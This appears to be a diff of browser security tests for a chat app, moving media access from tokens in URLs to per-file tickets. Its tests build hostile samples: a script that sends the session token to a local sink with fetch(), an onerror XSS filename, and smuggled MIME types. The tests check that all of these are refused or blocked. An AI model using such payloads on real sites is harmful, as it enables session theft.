@@ -98,6 +98,15 @@ return low;
 """
 
 
+def media_ticket(base, token, sha256):
+    """A ticket for one media file (`POST /media/<sha256>/ticket`, the token in the header)."""
+    import urllib.request
+    request = urllib.request.Request(f"{base}/media/{sha256}/ticket", method="POST",
+                                     headers={"Authorization": f"Bearer {token}"})
+    with urllib.request.urlopen(request) as answer:
+        return json.loads(answer.read())["ticket"]
+
+
 class Server:
     """`courier serve` on loopback, restartable on the same ports and data."""
 
@@ -586,6 +595,21 @@ class WebChatTests(unittest.TestCase):
         player = wait_until(lambda: bob.all("#messages video"), "the video at bob")[-1]
         bob.js("arguments[0].muted = true; arguments[0].play();", player)
         wait_until(lambda: bob.js("return arguments[0].currentTime", player) > 0.5, "the video playing")
+        # Its URL carries a ticket for that one file, never bob's token.
+        token = json.loads(bob.js("return localStorage.getItem('courier.session')"))["token"]
+        ticketed = r"/media/[0-9a-f]{64}\?ticket=\d+\.\d+\.[A-Za-z0-9_-]{43}$"
+        source = bob.js("return arguments[0].currentSrc", player)
+        self.assertRegex(source, ticketed)
+        self.assertNotIn(token, source)
+        # A ticket that no longer opens the file (as one past its end, the player seeking long after): the page asks
+        # for another, and the video plays again.
+        broken = bob.js("const v = arguments[0]; v.src = v.currentSrc.replace(/ticket=\\d+/, 'ticket=1'); "
+                        "return v.src", player)
+        wait_until(lambda: bob.js("return arguments[0].currentSrc", player) not in ("", broken)
+                   and bob.js("return arguments[0].readyState", player) >= 1, "the player given a new ticket")
+        self.assertRegex(bob.js("return arguments[0].currentSrc", player), ticketed)
+        bob.js("arguments[0].play();", player)
+        wait_until(lambda: bob.js("return arguments[0].currentTime", player) > 0.5, "the video playing again")
         # Another file is a download, of the same bytes.
         # (Its name is text, whatever it holds.)
         name = "<img src=x onerror=alert(1)> 笔记.txt"
@@ -855,7 +879,8 @@ class WebChatTests(unittest.TestCase):
             self.assertIsNone(page.js("return localStorage.getItem('courier.session')"))
             import urllib.request
             with self.assertRaises(urllib.error.HTTPError) as caught:
-                urllib.request.urlopen(f"{self.server.base}/media/{'0' * 64}?token={old}")
+                urllib.request.urlopen(urllib.request.Request(f"{self.server.base}/media/{'0' * 64}/ticket",
+                                                              method="POST", headers={"Authorization": f"Bearer {old}"}))
             self.assertEqual(caught.exception.code, 401, "the logged-out token no longer works")
             caught.exception.close()
         finally:
@@ -941,7 +966,12 @@ class WebChatTests(unittest.TestCase):
             script = (f"window.__pwned = 1; fetch('http://127.0.0.1:{sink.server_port}/?t=' + "
                       "encodeURIComponent(localStorage.getItem('courier.session')));").encode()
             script_sha = hashlib.sha256(script).hexdigest()
-            page = (f'<!doctype html><script src="/media/{script_sha}?token={token}"></script>').encode()
+            # Sent first as a plain picture, so that carol can have a ticket for it to put in her page.
+            send({"type": "img", "to": "alice", "id": "plain-script.png", "mime": "image/png", "name": "script.png"},
+                 script)
+            self.assertEqual(answer("error", "ack")["type"], "ack")
+            ticket = media_ticket(self.server.base, token, script_sha)
+            page = (f'<!doctype html><script src="/media/{script_sha}?ticket={ticket}"></script>').encode()
             page_sha = hashlib.sha256(page).hexdigest()
             for body, smuggled in ((script, "image/png, text/javascript"), (page, "image/png, text/html"),
                                    (page, "image/png,text/html"), (page, "image/png;x=1, text/html")):
@@ -950,9 +980,8 @@ class WebChatTests(unittest.TestCase):
                 refused = answer("error", "ack")
                 self.assertEqual((refused["type"], refused.get("code")), ("error", "invalid-request"), refused)
             # The same bytes as one type the server takes: served as downloads, never as what they say they are.
-            for body, name in ((script, "script.png"), (page, "cat.png")):
-                send({"type": "img", "to": "alice", "id": f"plain-{name}", "mime": "image/png", "name": name}, body)
-                self.assertEqual(answer("error", "ack")["type"], "ack")
+            send({"type": "img", "to": "alice", "id": "plain-cat.png", "mime": "image/png", "name": "cat.png"}, page)
+            self.assertEqual(answer("error", "ack")["type"], "ack")
             for sha in (script_sha, page_sha):
                 request = urllib.request.Request(f"{self.server.base}/media/{sha}",
                                                  headers={"Authorization": f"Bearer {token}"})
@@ -977,6 +1006,7 @@ class WebChatTests(unittest.TestCase):
             wait_until(lambda: not alice.js("return document.getElementById('viewer').open"), "the viewer closed")
 
             # Were carol's script put on alice's page (the blob document's step), the policy would not run it.
+            alice_token = json.loads(alice.js("return localStorage.getItem('courier.session')"))["token"]
             outcome = alice.driver.execute_async_script(
                 """
                 const [src, done] = arguments;
@@ -987,7 +1017,7 @@ class WebChatTests(unittest.TestCase):
                 script.onload = () => done('loaded');
                 document.head.append(script);
                 """,
-                f"/media/{script_sha}?token={token}")
+                f"/media/{script_sha}?ticket={media_ticket(self.server.base, alice_token, script_sha)}")
             self.assertEqual(outcome, "blocked script-src-elem")
             self.assertIsNone(alice.js("return window.__pwned ?? null"))
             policy = urllib.request.urlopen(self.server.base + "/").headers["Content-Security-Policy"]
